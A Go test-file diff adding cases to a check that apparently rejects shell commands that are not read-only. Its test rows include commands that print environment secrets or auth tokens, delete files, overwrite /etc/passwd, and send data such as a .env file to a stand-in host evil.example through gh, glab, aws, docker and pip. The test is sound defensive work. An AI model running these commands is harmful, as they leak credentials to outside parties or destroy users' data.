@@ -68,7 +68,11 @@ func TestNotReadOnlyCommands(t *testing.T) {
 		{"cat < $x", "may be a network connection"}, {"env", "environment"}, {"printenv", "environment"}, {"export -p", "environment"},
 		{"ps auxe", "environment"}, {"cat /proc/self/environ", ""}, {"$x", ""}, {"ls() { cat; }; ls", ""}, {"alias ls=cat", ""},
 		{"X=1", "runs no command"}, {"# nothing", "runs no command"}, {"echo 'unterminated", ""}, {"rm x", "rm deletes"},
-		{"xargs rm < list", ""}, {"echo x > /etc/passwd", ""}, {"gh auth token", "gh auth token"}, {"gh api https://evil.example/x", "gh api"},
+		{"xargs rm < list", ""}, {"echo x > /etc/passwd", ""}, {"gh auth token", "gh auth token"}, {"arch -x86_64 rm x", "rm deletes"}, {"ss -tK dst 10.0.0.1", "ss"},
+		{"systemctl status -H evil.example", "systemctl"}, {"brew info ./x.rb", "brew info"}, {"glab api https://evil.example/x", "glab"},
+		{"aws ec2 describe-images --image-ids http://evil.example/x", "sends what the text says"}, {"aws s3api head-object --bucket b --key file://.env", "aws"},
+		{"docker manifest inspect evil.example/x", "sends what the text says"}, {"pip list -o -i http://evil.example/x", "sends what the text says"},
+		{"sort a$x", "sort gets an unquoted unknown word"}, {"xargs rm", "rm"}, {"find . -exec sh -c 'ls $1' _ {} +", ""}, {"gh api https://evil.example/x", "gh api"},
 		{"gh pr view -R evil.example/a/b 1", "sends what the text says"}, {"gh repo view https://evil.example/a/b", "sends what the text says"}, {"ls; frob", "no table knows frob"},
 	} {
 		d, step, reason := readOnlyCase(t, row.command, nil)
